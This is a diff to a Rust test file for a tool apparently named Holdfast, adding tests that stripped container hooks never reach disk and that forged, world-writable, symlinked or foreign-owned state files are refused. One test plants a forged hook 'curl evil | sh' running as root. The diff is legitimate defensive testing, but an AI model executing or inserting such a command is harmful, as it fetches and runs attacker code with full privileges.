@@ -29,6 +29,14 @@ fn intent(covers: &str) -> Intent {
     Intent::new("0190-run", covers, &[step("app"), step("db")])
 }
 
+/// Returns the intent as a successor finds it.
+fn on_disk(mut intent: Intent) -> Intent {
+    for entry in &mut intent.containers {
+        entry.step.hooks = Hooks::default();
+    }
+    intent
+}
+
 fn files(state_dir: &Path) -> Vec<String> {
     let entries = std::fs::read_dir(folder(state_dir)).unwrap();
     let mut names: Vec<_> = entries
@@ -60,7 +68,8 @@ fn an_intent_is_found_only_when_its_owner_has_let_go_of_it() {
     let written = held.intent().clone();
     drop(held);
     let found = one(abandoned(dir.path()).unwrap());
-    assert_eq!(*found.intent(), written);
+    assert_eq!(*found.intent(), on_disk(written));
+    assert!(found.is_adopted());
     assert!(found.intent().containers[1].touched && !found.intent().containers[0].touched);
     assert_eq!(abandoned(dir.path()).unwrap().len(), 0, "it has an owner again");
     found.remove().unwrap();
@@ -94,7 +103,7 @@ fn an_intent_outlives_its_killed_owner() {
     assert_eq!(abandoned(dir.path()).unwrap().len(), 0);
     owner.kill();
     let found = one(abandoned(dir.path()).unwrap());
-    assert_eq!(*found.intent(), intent("volume files"));
+    assert_eq!(*found.intent(), on_disk(intent("volume files")));
 }
 
 #[test]
@@ -122,7 +131,7 @@ fn an_intent_that_is_no_intent_stays_and_holds_no_other_up() {
         texts[1]
     );
     assert!(
-        texts[2].contains("it is of version 9; this Holdfast knows version 1"),
+        texts[2].contains("it is of version 9; this Holdfast knows version 2"),
         "{}",
         texts[2]
     );
@@ -170,4 +179,63 @@ fn a_folder_that_cannot_be_written_to_is_named() {
     std::fs::write(dir.path().join("quiet"), "").unwrap();
     let error = Held::write(dir.path(), intent("group shop")).unwrap_err();
     assert!(error.to_string().contains("quiet/0190-run-group-shop.json"), "{error}");
+}
+
+#[test]
+fn no_command_is_written_to_disk_or_read_from_there() {
+    let dir = tempfile::tempdir().unwrap();
+    drop(Held::write(dir.path(), intent("group shop")).unwrap());
+    let path = folder(dir.path()).join("0190-run-group-shop.json");
+    let written = std::fs::read_to_string(&path).unwrap();
+    assert!(!written.contains("rm /x") && !written.contains("hooks"), "{written}");
+    // A file of the version before, or of somebody else.
+    let mut forged: serde_json::Value = serde_json::from_str(&written).unwrap();
+    forged["version"] = 1.into();
+    forged["containers"][0]["hooks"] = serde_json::json!({
+        "before": null, "after": "curl evil | sh", "user": "root", "timeout": {"secs": 60, "nanos": 0}, "on_failure": "fail",
+    });
+    forged["containers"][0]["hooked"] = true.into();
+    std::fs::write(&path, forged.to_string()).unwrap();
+    let found = one(abandoned(dir.path()).unwrap());
+    assert!(found.intent().containers[0].hooked);
+    assert_eq!(found.intent().containers[0].step.hooks, Hooks::default());
+}
+
+#[test]
+fn what_others_could_have_written_is_refused_and_told() {
+    let changed = |what: &Path, mode: u32| {
+        std::fs::set_permissions(what, std::fs::Permissions::from_mode(mode)).unwrap();
+    };
+    let dir = tempfile::tempdir().unwrap();
+    drop(Held::write(dir.path(), intent("group shop")).unwrap());
+    let quiet = folder(dir.path());
+    let file = quiet.join("0190-run-group-shop.json");
+    for mode in [0o777, 0o1777, 0o770, 0o702] {
+        changed(&quiet, mode);
+        assert!(is_any(dir.path()), "somebody must hear of it");
+        let why = holdfast_fault::chain(&abandoned(dir.path()).unwrap_err()).to_string();
+        assert!(why.contains("others can write to it"), "{why}");
+        let refused = Held::write(dir.path(), intent("group other")).unwrap_err();
+        let why = holdfast_fault::chain(&refused).to_string();
+        assert!(why.contains("others can write to it"), "{why}");
+    }
+    changed(&quiet, 0o755);
+    changed(&file, 0o666);
+    let found = abandoned(dir.path()).unwrap();
+    assert!(matches!(found.as_slice(), [Err(IntentError::Read { .. })]), "{found:?}");
+    changed(&file, 0o644);
+    drop(one(abandoned(dir.path()).unwrap()));
+    // A folder somewhere else, under our name.
+    let elsewhere = dir.path().join("elsewhere");
+    std::fs::rename(&quiet, &elsewhere).unwrap();
+    std::os::unix::fs::symlink(&elsewhere, &quiet).unwrap();
+    let why = holdfast_fault::chain(&abandoned(dir.path()).unwrap_err()).to_string();
+    assert!(why.contains("it is a link"), "{why}");
+    if rustix::process::geteuid().is_root() {
+        std::fs::remove_file(&quiet).unwrap();
+        std::fs::rename(&elsewhere, &quiet).unwrap();
+        std::os::unix::fs::chown(&quiet, Some(10_001), None).unwrap();
+        let why = holdfast_fault::chain(&abandoned(dir.path()).unwrap_err()).to_string();
+        assert!(why.contains("it belongs to user 10001, and this is user 0"), "{why}");
+    }
 }
